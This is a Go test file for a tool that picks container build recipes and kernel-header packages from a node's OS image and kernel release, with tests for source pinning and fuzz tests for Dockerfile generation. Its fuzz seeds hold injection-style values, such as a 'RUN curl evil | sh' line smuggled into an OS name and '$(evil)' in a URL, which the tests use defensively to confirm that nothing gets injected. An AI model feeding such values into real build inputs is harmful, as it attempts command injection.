package build

import (
	"os/exec"
	"slices"
	"strings"
	"testing"
)

func TestRecipesByWhatANodeCallsItself(t *testing.T) {
	for osImage, want := range map[string]string{
		"Debian GNU/Linux 12 (bookworm)":        "debian docker.io/library/debian:12",
		"Debian GNU/Linux 13 (trixie)":          "debian docker.io/library/debian:13",
		"Ubuntu 22.04.5 LTS":                    "debian docker.io/library/ubuntu:22.04",
		"Ubuntu 24.10":                          "debian docker.io/library/ubuntu:24.10",
		"Red Hat Enterprise Linux 9.4 (Plow)":   "el registry.access.redhat.com/ubi9/ubi:latest",
		"Red Hat Enterprise Linux 8.10 (Ootpa)": "el registry.access.redhat.com/ubi8/ubi:latest",
		"Rocky Linux 9.5 (Blue Onyx)":           "el quay.io/rockylinux/rockylinux:9",
		"AlmaLinux 10.0 (Purple Lion)":          "el docker.io/library/almalinux:10",
		"Oracle Linux Server 8.10":              "el container-registry.oracle.com/os/oraclelinux:8",
		"CentOS Stream 9":                       "el quay.io/centos/centos:stream9",
		"Amazon Linux 2":                        "amazon2 public.ecr.aws/amazonlinux/amazonlinux:2",
		"Amazon Linux 2023.6.20241212":          "amazon2023 public.ecr.aws/amazonlinux/amazonlinux:2023",
		"Fedora Linux 41 (Cloud Edition)":       "el quay.io/fedora/fedora:41",
		"Fedora CoreOS 41.20250315.3.0":         "el quay.io/fedora/fedora:41",
		"Microsoft Azure Linux 3.0":             "azurelinux mcr.microsoft.com/azurelinux/base/core:3.0",
		"CBL-Mariner/Linux":                     "azurelinux mcr.microsoft.com/cbl-mariner/base/core:2.0",
		"VMware Photon OS/Linux":                "photon docker.io/library/photon:5.0",
		"SUSE Linux Enterprise Server 15 SP6":   "suse registry.suse.com/bci/bci-sle15-kernel-module-devel:15.6",
		"SUSE Linux Enterprise Server 16.0":     "suse registry.suse.com/bci/bci-sle16-kernel-module-devel:16.0",
		"openSUSE Leap 15.6":                    "suse registry.opensuse.org/opensuse/leap:15.6",
		"openSUSE Tumbleweed":                   "suse registry.opensuse.org/opensuse/tumbleweed:latest",
		"openSUSE MicroOS":                      "suse registry.opensuse.org/opensuse/tumbleweed:latest",
	} {
		r, err := RecipeFor(osImage)
		if got := r.Name + " " + r.Image; err != nil || got != want {
			t.Errorf("%s: %s, %v; want %s", osImage, got, err, want)
		}
		if r.Proven != (osImage == "Debian GNU/Linux 12 (bookworm)") {
			t.Errorf("%s: proven is %v; tests run Debian 12 only", osImage, r.Proven)
		}
	}
	for osImage, says := range map[string]string{
		"":                               "--image and --script",
		"Debian GNU/Linux trixie/sid":    "--image and --script",
		"Red Hat Enterprise Linux 7.9":   "8 to 10",
		"Rocky Linux 11.0":               "8 to 10",
		"Ubuntu 18.04.6 LTS":             "20 and later",
		"openEuler 22.03 (LTS-SP4)":      "--image and --script",
		"Talos (v1.9.0)":                 "system extension",
		"Bottlerocket OS 1.30.0":         "kmod kit",
		"Container-Optimized OS from Go": "Ubuntu node pool",
		"Flatcar Container Linux by Kin": "developer container",
		"Red Hat Enterprise Linux CoreOS 417.94.202410160352-0": "Driver Toolkit",
	} {
		if _, err := RecipeFor(osImage); err == nil || !strings.Contains(err.Error(), says) {
			t.Errorf("%s: %v; want it to say %q", osImage, err, says)
		}
	}
	for kernel, says := range map[string]string{
		"6.6.12-linuxkit": "Docker Desktop", "6.10.14-linuxkit-virt": "Docker Desktop", "5.15.167.4-microsoft-standard-WSL2": "WSL 2",
		"6.13.7-orbstack-00283-g9d1400e7e9c6": "OrbStack", "6.12.43-talos": "Talos", "6.6.74-flatcar": "Flatcar",
		"6.1.0-18-cloud-amd64": "", "6.8.12-4-pve": "", "6.6.20+rpt-rpi-v8": "", "6.8.0-51-generic": "", "6.1.100-mykernel": "",
	} {
		_, err := RecipeForKernel("Debian GNU/Linux 12 (bookworm)", kernel)
		if says == "" && err == nil {
			continue
		}
		if err == nil || says == "" || !strings.Contains(err.Error(), says) || !strings.Contains(err.Error(), SetBuilder) {
			t.Errorf("%s: %v; want it to name %q", kernel, err, says)
		}
	}
	for _, r := range Recipes() {
		if r.Name == "" || r.Title == "" {
			t.Errorf("%+v", r)
		}
	}
}

// Photon's nodes say their release by the kernel's alone.
func TestAPhotonNodesImageIsOfItsKernel(t *testing.T) {
	for kernel, want := range map[string]string{
		"6.1.75-2.ph5-esx": "Photon OS 5 docker.io/library/photon:5.0", "5.10.216-1.ph4": "Photon OS 4 docker.io/library/photon:4.0",
		"6.1.75-custom": "Photon OS docker.io/library/photon:5.0",
	} {
		n := node("a", kernel, "amd64", "VMware Photon OS/Linux")
		if r, err := RecipeForNode(n); err != nil || r.Title+" "+r.Image != want {
			t.Errorf("%s: %+v, %v, want %s", kernel, r, err, want)
		}
	}
}

func TestTheSourceIsAlwaysPinned(t *testing.T) {
	sum := strings.Repeat("ab", 32)
	for _, c := range []struct{ version, url, sha256, want, fails string }{
		{want: "8.9.0 tree"},
		{version: "8.8.0", want: "8.8.0 tree"},
		{url: "https://mirror.example.com/pf.tar.xz", want: "8.9.0 tree"},
		{url: "https://mirror.example.com/pf.tar.xz", sha256: strings.ToUpper(sum), want: "8.9.0 archive"},
		{version: "9.0.0", url: "http://mirror/pf.tar.gz", sha256: sum, want: "9.0.0 archive"},
		{version: "9.0.0", fails: "must be one of those whose content is known"},
		{version: "9.0.0", url: "https://mirror/pf.tar.gz", fails: "the sha256 of its archive"},
		{sha256: sum, fails: "leave out the sha256"},
		{url: "https://mirror/pf.tar.gz", sha256: "abc", fails: "64 hexadecimal digits"},
		{url: "ftp://mirror/pf.tar.gz", fails: "http:// or https://"},
		{url: "/etc/passwd", fails: "http:// or https://"},
		{url: "https://ann:secret@mirror/pf.tar.gz", fails: "must not contain a password"},
	} {
		s, err := NewSource(c.version, c.url, c.sha256)
		if c.fails != "" {
			if err == nil || !strings.Contains(err.Error(), c.fails) || strings.Contains(err.Error(), "secret") {
				t.Errorf("%+v: %v", c, err)
			}
			continue
		}
		kind := "tree"
		if s.SHA256 == sum && s.Tree == "" {
			kind = "archive"
		}
		if got := s.Version + " " + kind; err != nil || got != c.want || s.URL == "" || kind == "tree" && !hexSum().MatchString(s.Tree) {
			t.Errorf("%+v: %+v %v", c, s, err)
		}
	}
}

// What a recipe looks for first, by the kernel's release: each flavour has
// headers of its own, and distributions have spelled them in many ways.
func TestRecipesKnowTheHeadersOfEachFlavour(t *testing.T) {
	sh, err := exec.LookPath("sh")
	if err != nil {
		t.Skip("there is no shell here")
	}
	for _, c := range []struct{ recipe, kernel, names string }{
		{"el", "5.14.0-427.13.1.el9_4.x86_64", "kernel-devel"},
		{"el", "5.14.0-427.13.1.el9_4.x86_64+rt", "kernel-rt-devel"},
		{"el", "5.14.0-427.13.1.el9_4.x86_64+rt-debug", "kernel-rt-debug-devel"},
		{"el", "5.14.0-427.13.1.el9_4.aarch64+64k", "kernel-64k-devel"},
		{"el", "4.18.0-553.el8_10.x86_64+debug", "kernel-debug-devel"},
		{"el", "4.18.0-372.41.1.rt7.198.el8_6.x86_64", "kernel-rt-devel"},
		{"el", "5.14.0-162.6.1.rt21.168.el9_1.x86_64", "kernel-rt-devel"},
		{"el", "5.15.0-302.167.6.el8uek.x86_64", "kernel-uek-devel kernel-uek64k-devel"},
		{"el", "6.1.55-1.el9.elrepo.x86_64", "kernel-lt-devel kernel-ml-devel"},
		{"el", "6.13.6-200.fc41.x86_64", "kernel-devel"},
		{"el", "6.13.6-200.fc41.aarch64+16k", "kernel-16k-devel"},
		{"el", "6.12.0-102.36.5.2.el9uek.aarch64", "kernel-uek-devel kernel-uek64k-devel"},
		{"el", "6.12.0-55.9.1.el10_0.x86_64", "kernel-devel"},
		{"el", "6.12.0-55.9.1.el10_0.aarch64+64k", "kernel-64k-devel"},
		{"el", "4.18.0-553.16.1.el8_10.x86_64", "kernel-devel"},
		{"el", "5.14.0-570.12.1.el9_6.x86_64+debug", "kernel-debug-devel"},
		{"amazon2", "4.14.355-277.643.amzn2.x86_64", "kernel-devel-4.14.355-277.643.amzn2.x86_64"},
		{"amazon2", "5.10.236-228.935.amzn2.aarch64", "kernel-devel-5.10.236-228.935.amzn2.aarch64"},
		{"amazon2023", "6.1.134-150.224.amzn2023.x86_64", "kernel-devel kernel6.1-devel"},
		{"amazon2023", "6.12.25-32.101.amzn2023.x86_64", "kernel6.12-devel kernel-devel"},
		{"debian", "6.1.0-18-cloud-amd64", "linux-headers-6.1.0-18-cloud-amd64"},
		{"debian", "5.15.0-1050-aws", "linux-headers-5.15.0-1050-aws"},
		{"debian", "6.12.38+deb13-cloud-arm64", "linux-headers-6.12.38+deb13-cloud-arm64"},
		{"debian", "6.1.0-37-rt-amd64", "linux-headers-6.1.0-37-rt-amd64"},
		{"debian", "5.10.0-35-cloud-amd64", "linux-headers-5.10.0-35-cloud-amd64"},
		{"debian", "6.8.0-1029-azure", "linux-headers-6.8.0-1029-azure"},
		{"debian", "6.8.0-1029-azure-fde", "linux-headers-6.8.0-1029-azure-fde"},
		{"debian", "6.8.0-1032-gcp", "linux-headers-6.8.0-1032-gcp"},
		{"debian", "6.8.0-1027-oracle", "linux-headers-6.8.0-1027-oracle"},
		{"debian", "6.8.0-1031-raspi", "linux-headers-6.8.0-1031-raspi"},
		{"debian", "6.8.0-63-lowlatency", "linux-headers-6.8.0-63-lowlatency"},
		{"debian", "6.8.0-63-lowlatency-64k", "linux-headers-6.8.0-63-lowlatency-64k"},
		{"debian", "6.8.0-63-generic-64k", "linux-headers-6.8.0-63-generic-64k"},
		{"debian", "6.11.0-29-generic", "linux-headers-6.11.0-29-generic"},
		{"debian", "6.8.0-1028-gke", "linux-headers-6.8.0-1028-gke"},
		{"debian", "6.8.0-1030-nvidia-64k", "linux-headers-6.8.0-1030-nvidia-64k"},
		{"debian", "6.12.25+rpt-rpi-2712", "linux-headers-6.12.25+rpt-rpi-2712"},
		{"debian", "6.12.74+deb13+1-amd64", "linux-headers-6.12.74+deb13+1-amd64"},
		{"debian", "6.8.12-5-pve", "proxmox-headers-6.8.12-5-pve pve-headers-6.8.12-5-pve"},
		{"debian", "6.1.21-v8+", "raspberrypi-kernel-headers linux-headers-6.1.21-v8+"},
		{"suse", "6.4.0-150600.23.38-default", "kernel-default-devel"},
		{"suse", "6.4.0-150600.8.17-azure", "kernel-azure-devel"},
		{"suse", "6.4.0-150600.23.38-64kb", "kernel-64kb-devel"},
		{"suse", "5.3.18-150300.59.93-preempt", "kernel-preempt-devel"},
		{"suse", "6.4.0-150700.7.13-rt", "kernel-rt-devel"},
		{"suse", "6.12.0-160000.5-default", "kernel-default-devel"},
		{"suse", "6.16.8-1-default", "kernel-default-devel"},
		{"photon", "6.1.75-2.ph5", "linux-devel-6.1.75-2.ph5"},
		{"photon", "6.1.75-2.ph5-esx", "linux-esx-devel-6.1.75-2.ph5"},
		{"photon", "6.12.10-3.acvp.1.ph5-esx", "linux-esx-devel-6.12.10-3.acvp.1.ph5"},
		{"photon", "6.1.90-1.ph5-rt", "linux-rt-devel-6.1.90-1.ph5"},
		{"photon", "5.10.118-rt67-3.ph4-rt", "linux-rt-devel-5.10.118-3.ph4"},
		{"photon", "5.10.216-1.ph4-secure", "linux-secure-devel-5.10.216-1.ph4"},
		{"photon", "5.10.216-1.ph4-aws", "linux-aws-devel-5.10.216-1.ph4"},
		{"azurelinux", "5.15.182.1-1.cm2", "kernel-devel kernel-hwe-devel kernel-64k-devel kernel-mshv-devel kernel-rt-devel"},
		{"azurelinux", "6.6.78.1-3.azl3", "kernel-devel kernel-hwe-devel kernel-64k-devel kernel-mshv-devel kernel-rt-devel"},
	} {
		cmd := exec.CommandContext(t.Context(), sh, "-eu", "-c", "K=$1; "+text(c.recipe)+`printf %s "${NAMES:-$HEADERS}"`, "sh", c.kernel)
		out, err := cmd.CombinedOutput()
		if err != nil || string(out) != c.names {
			t.Errorf("%s, %s: %q, %v, want %q", c.recipe, c.kernel, out, err, c.names)
		}
	}
}

// A distribution's package manager, as far as the recipe for SUSE needs it: the
// package has one number more than the kernel.
func TestSUSEsHeadersAreFoundByTheReleasesNumber(t *testing.T) {
	sh, err := exec.LookPath("sh")
	if err != nil {
		t.Skip("there is no shell here")
	}
	script := `K=6.4.0-150600.23.38-default
die() { echo "died: $*"; exit 1; }
retry() { "$@"; }
zypper() {
  case $* in *search*) printf '%s\n' 'S | Name | Type | Version | Arch | Repository' 'v | kernel-default-devel | package | 6.4.0-150600.23.38.1 | x86_64 | SLE_BCI' 'v | kernel-default-devel | package | 6.4.0-150600.23.3.1 | x86_64 | SLE_BCI' 'v | kernel-default-devel | package | 6.4.0-150600.23.380.1 | x86_64 | SLE_BCI' ;; *) echo "$@" ;; esac
}
` + text("suse") + "headers\n"
	out, err := exec.CommandContext(t.Context(), sh, "-eu", "-c", script).CombinedOutput()
	if err != nil || !strings.HasSuffix(strings.TrimSpace(string(out)), "kernel-default-devel=6.4.0-150600.23.38.1") {
		t.Errorf("%s, %v", out, err)
	}
}

// What goes into a Dockerfile are names and addresses, and nobody's instructions.
func FuzzDockerfile(f *testing.F) {
	f.Add(debian, "8.9.0", "", "")
	f.Add("Debian GNU/Linux 12 (bookworm)\nRUN curl evil | sh", "9.0.0\nRUN evil", "https://example.com/a b.tar.gz", strings.Repeat("a", 64))
	f.Add("Ubuntu 24.04 LTS", "9.0.0", "https://example.com/$(evil)\\", strings.Repeat("a", 64))
	instructions := func(text string) (list []string) {
		for line := range strings.Lines(text) {
			if word, _, _ := strings.Cut(line, " "); word != "" && word != "#" {
				list = append(list, word)
			}
		}
		return list
	}
	f.Fuzz(func(t *testing.T, osImage, version, address, sha256 string) {
		r, err := RecipeFor(osImage)
		if err != nil {
			return
		}
		s, err := NewSource(version, address, sha256)
		if err != nil {
			return
		}
		standard, err := NewSource("", "", "")
		if err != nil {
			t.Fatal(err)
		}
		want := instructions(Dockerfile(r, standard, "scratch"))
		if got := instructions(Dockerfile(r, s, "scratch")); !slices.Equal(got, want) {
			t.Errorf("%q %q %q: %q, want %q", osImage, version, address, got, want)
		}
		if strings.ContainsAny(r.Title+r.Image, "\n\r") {
			t.Errorf("%q: a recipe of several lines: %+v", osImage, r)
		}
	})
}

// A node's kubelet says what its system and kernel are called.
func FuzzRecipe(f *testing.F) {
	for _, image := range []string{"", debian, "Ubuntu 22.04.4 LTS", "Red Hat Enterprise Linux CoreOS 415", "SUSE Linux Enterprise Server 15 SP5", "Amazon Linux 2023.5", "Debian GNU/Linux 999999999999999999999"} {
		f.Add(image, "6.1.0-18-amd64")
	}
	f.Fuzz(func(t *testing.T, image, kernel string) {
		r, err := RecipeFor(image)
		if (err == nil) != (r.Name != "" && r.Image != "") {
			t.Errorf("%q: %+v, %v", image, r, err)
		}
		if ValidRelease(kernel) && strings.ContainsAny(kernel, " /$`\"'\n;|&") {
			t.Errorf("%q is a kernel release", kernel)
		}
		VersionFor(kernel)
	})
}
